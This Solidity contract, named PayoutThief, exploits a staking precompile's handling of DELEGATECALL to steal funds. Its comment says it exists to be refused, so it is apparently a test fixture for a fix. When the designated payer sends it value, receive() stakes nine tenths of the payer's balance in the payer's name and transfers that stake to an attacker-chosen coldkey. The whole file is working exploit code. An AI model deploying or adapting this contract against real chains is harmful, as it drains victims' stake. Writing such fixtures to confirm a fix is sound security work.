// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @notice Does what its owner says, and when it is paid by a call, acts as who pays: up to spec 451 the staking precompile takes who calls
/// the code that calls it by DELEGATECALL for the one who asks. It exists to be refused.
contract PayoutThief {
    address private constant STAKING = 0x0000000000000000000000000000000000000805;
    address private constant ADDRESS_MAPPING = 0x000000000000000000000000000000000000080C;
    address private immutable payer;
    bytes32 private immutable hotkey;
    uint256 private immutable netuid;
    bytes32 private immutable coldkey;

    /// @param payer_ Whom it steals from.
    /// @param coldkey_ Who is to have what is stolen.
    constructor(address payer_, bytes32 hotkey_, uint256 netuid_, bytes32 coldkey_) payable {
        (payer, hotkey, netuid, coldkey) = (payer_, hotkey_, netuid_, coldkey_);
    }

    function act(address to, uint256 value, bytes calldata data) external {
        (bool ok,) = to.call{value: value}(data);
        require(ok, "it failed");
    }

    /// @dev Nine tenths of what the payer still has are spent on stake, which goes on to the thief.
    receive() external payable {
        if (msg.sender != payer) return;
        uint256 rao = payer.balance / 1e9 * 9 / 10;
        (bool ok,) = STAKING.delegatecall(abi.encodeWithSignature("addStake(bytes32,uint256,uint256)", hotkey, rao, netuid));
        require(ok, "addStake");
        (, bytes memory mapped) = ADDRESS_MAPPING.staticcall(abi.encodeWithSignature("addressMapping(address)", payer));
        (, bytes memory held) = STAKING.staticcall(
            abi.encodeWithSignature("getStake(bytes32,bytes32,uint256)", hotkey, abi.decode(mapped, (bytes32)), netuid)
        );
        (ok,) = STAKING.delegatecall(
            abi.encodeWithSignature(
                "transferStake(bytes32,bytes32,uint256,uint256,uint256)", coldkey, hotkey, netuid, netuid, abi.decode(held, (uint256))
            )
        );
        require(ok, "transferStake");
    }
}
